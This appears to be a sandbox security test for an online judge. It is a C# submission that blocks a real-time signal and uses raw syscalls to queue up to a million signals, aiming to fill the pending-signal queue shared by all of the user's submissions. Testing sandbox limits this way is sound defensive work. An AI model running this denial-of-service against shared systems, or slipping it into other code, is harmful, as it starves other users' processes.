// attack: 62
// about: the queue of signals belongs to the user, whom all submissions share: filling it must not be possible
// problem: attempt
// expected: Accepted
using System.Runtime.InteropServices;
public unsafe class Solution
{
    [DllImport("libc")] static extern int getpid();
    [DllImport("libc", SetLastError = true)] static extern nint syscall(nint number, nint a, nint b, nint c, nint d = 0);
    public string Attempt()
    {
        const int procmask = 14, tgkill = 234, gettid = 186, signal = 40;
        var blocked = 1UL << (signal - 1);
        syscall(procmask, 0, (nint)(&blocked), 0, 8);
        var queued = 0;
        var (process, thread) = ((nint)getpid(), syscall(gettid, 0, 0, 0));
        while (queued < 1_000_000 && syscall(tgkill, process, thread, signal) == 0)
            queued++;
        Thread.Sleep(1500);
        return queued > 10_000 ? $"{queued} signals wait" : "refused";
    }
}
